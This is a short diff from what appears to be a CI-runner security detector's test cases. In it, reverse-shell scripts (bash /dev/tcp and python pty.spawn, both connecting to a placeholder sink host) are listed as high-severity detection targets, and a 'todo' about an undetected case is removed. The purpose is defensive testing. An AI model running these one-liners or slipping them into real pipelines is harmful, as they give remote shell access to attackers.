@@ -50,7 +50,7 @@ chmod +x ~/.cache/.updater/upd
 
   { cls: 8, name: 'bash -i >& /dev/tcp reverse shell', min: 'high', spec: (net) => ({ trigger: 'pull_request', script: `
 timeout 5 bash -c 'bash -i >& /dev/tcp/${SHELL_SINK}/${net.shellPort} 0>&1' 2>/dev/null || true` }) },
-  { cls: 8, name: 'python pty.spawn reverse shell', min: 'high', todo: 'rules: sh is a forked child of the connecting python with stdio on a pty (stdin "tty"), so neither shell-on-socket nor connect-then-shell (same pid) matches', spec: (net) => ({ trigger: 'pull_request', script: `
+  { cls: 8, name: 'python pty.spawn reverse shell', min: 'high', spec: (net) => ({ trigger: 'pull_request', script: `
 timeout 5 python3 -c 'import socket, os, pty
 s = socket.create_connection(("${SHELL_SINK}", ${net.shellPort}))
 [os.dup2(s.fileno(), f) for f in (0, 1, 2)]
